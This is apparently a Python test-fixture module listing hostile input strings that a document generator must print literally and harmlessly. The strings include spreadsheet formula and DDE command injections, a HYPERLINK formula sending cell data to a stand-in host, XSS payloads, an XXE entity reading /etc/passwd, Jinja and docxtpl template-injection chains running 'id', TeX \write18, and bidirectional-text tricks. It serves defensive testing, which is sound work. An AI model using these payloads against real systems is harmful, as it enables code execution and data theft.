"""The one list of hostile texts: whatever somebody may write into a field that a document prints.

Each must come out literally, and do nothing, in every format. What stands on one line in a document is `literal`'s form of it.
"""

from __future__ import annotations

FORMULAS = {
    "formula": "=1+1",
    "formula of a link": '=HYPERLINK("http://h.invalid/?x="&A1,"见附件")',
    "formula of a command": "=cmd|' /C calc'!A0",
    "formula by plus": "+SUM(1,2)",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula full-width": "＝ＨＹＰＥＲＬＩＮＫ（＂http://h.invalid＂）",
    "plus full-width": "＋1+1",
    "minus full-width": "－1+1",
    "at full-width": "＠SUM(1+1)",
    "formula of an array": "{=1+1}",
    "formula after an apostrophe": "'=1+1",
    "web query": '=WEBSERVICE("http://h.invalid/")',
    "data exchange": '=DDE("cmd";"/C calc";"!A0")',
}
"""What a spreadsheet might reckon."""

MARKUP = {
    "script": "<script>alert('h')</script>",
    "script in an attribute": '"><img src=x onerror=alert(1)>',
    "script in a single-quoted attribute": "' onmouseover='alert(1)",
    "script in a drawing": "</text></svg><script>alert(1)</script>",
    "end of style": "</style><style>*{display:none}",
    "end of title": "</title><script>alert(1)</script>",
    "comment of html": "--><b>bold</b><!--",
    "link to a script": "javascript:alert(1)",
    "escaped already": "&amp;lt;b&amp;gt; &#60;i&#62; &nbsp; &copy;",
    "cdata": "]]><x/><![CDATA[ h",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "processing instruction": "<?xml-stylesheet href='http://h.invalid/'?><?php system('id') ?>",
    "paragraph of a word file": '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows "calc"</w:instrText></w:r><w:r><w:t>',
    "field of a word file": '{ INCLUDETEXT "http://h.invalid/x" } { HYPERLINK "http://h.invalid" }',
    "escape of a workbook": "_x0041__x003D_1+1_x000D__x005F_",
    "ampersands": "A & B && C &&& &",
}
"""What a browser, an XML reader or an office program might take for its own."""

TEMPLATES = {
    "jinja": "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}{# gone #}",
    "jinja reaching out": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}",
    "docxtpl": "{%p if true %}{%tr for r in rows %}{{r t}}{%tr endfor %}{%p endif %}",
    "docxtpl with a raw value": "{{r '<w:b/>' }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "typst code": '#read("/etc/passwd") #import "@preview/cetz:0.3.0" #{ let x = 1 } #x',
    "typst mathematics": "$ x^2 $ $a/b$ \\$",
    "typst references": "@intro <label> @preview",
    "typst comments": "// gone\u00a0to the end /* gone */ http://h.invalid/*",
    "typst markup": "*bold* _italic_ `raw` = heading - list + list / term: x [[ ]] [content] ~ -- --- ... \\ #[ ]",
    "typst heading": "= A heading",
    "tex": "\\input{/etc/passwd} \\write18{id} $x$ % gone",
    "percents": "%s %d %(name)s 100% %%",
    "braces": "{0} {name} {} {{}} {x!r} ${HOME} $(id) `id`",
    "markdown": "[x](javascript:alert(1)) **b** | a | b |",
}
"""What an engine of templates, or one that sets pages, might carry out."""

CHARACTERS = {
    "control": "before\x07\x08\x1b[31mred\x1b[0m\x7f\x9bafter",
    "line breaks": "one\ntwo\r\nthree\rfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine",
    "tabs": "a\tb\t\tc",
    "bidirectional": "safe\u202etxt.exe\u202c \u2066hidden\u2069 \u200f\u200e\u061c",
    "zero width": "张\u200b三\u200c李\u200d四\ufeff王\u2060五",
    "variation and tags": "办\ufe00法\U000e0100 \U000e0041\U000e007f",
    "astral": "𠮷野家 𬭎 🏛️ 👩\u200d⚖️ 🇨🇳 𝟏𝟐𝟑",
    "combining": "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303\u0304\u0305lgo e\u0301 ñ 각",
    "noncharacters": "a\ufffeb\uffffc\ufdd0d\U0001ffffe",
    "private use": "私\ue000用\U000f0000",
    "replacement": "\ufffd\ufffc",
    "of another script": "أبجد עברית ไทย हिन्दी",
    "spaces": "\u00a0\u3000\u2003 a  b \u3000",
    "only spaces": " \u3000 ",
    "name of a device": '../../CON.docx:stream|<>?*"',
    "long word": "x" * 400,
    "much longer than a cell": "长" * 40_000,
}
"""What is no plain character."""

NOWHERE_TO_STAND = {
    "null": "before\x00after",
    "lone surrogates": "a\ud800b\udc00c\udfff",
    "pair turned round": "\udc00\ud800",
}
"""What no ledger holds (SQLite ends a text at a null, and UTF-8 has no surrogates): a load refuses it; a value of the model may
still hold it."""

SHORT = {**FORMULAS, **MARKUP, **TEMPLATES, **CHARACTERS, **NOWHERE_TO_STAND}
LONG = {"a line of 1 MB": "1 MB " + "办法<&$#{=" * 131_072 + " end"}
HOSTILE = {**SHORT, **LONG}
"""Every one of them, by its name."""

STORABLE = {name: text for name, text in HOSTILE.items() if name not in NOWHERE_TO_STAND}
"""Those that a ledger can hold."""
